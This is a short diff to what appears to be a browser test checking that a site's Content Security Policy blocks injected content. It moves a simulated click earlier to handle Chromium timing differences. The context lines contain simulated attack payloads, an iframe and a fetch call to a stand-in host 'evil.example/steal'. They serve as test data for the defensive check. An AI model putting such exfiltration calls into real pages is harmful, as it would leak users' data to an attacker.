@@ -46,11 +46,12 @@ for (const address of ["/", "/edit/"]) {
       add("iframe", { src: "https://evil.example/" });
       fetch("https://evil.example/steal").catch(() => {});
     });
+    // Some versions of Chromium report an inline handler when it is added, others when it is pressed.
+    await page.getByText("press", { exact: true }).dispatchEvent("click");
     const seen = () => page.evaluate(() => Reflect.get(window, "seen").toSorted());
     // The editor's scripts write style elements.
     const allowed = isEditor ? "style-src-elem inline" : "";
     await expect.poll(seen).toEqual(violations.filter((one) => one !== allowed));
-    await page.getByText("press", { exact: true }).dispatchEvent("click");
     expect(await page.evaluate(() => "hacked" in window)).toBe(false);
   });
 }
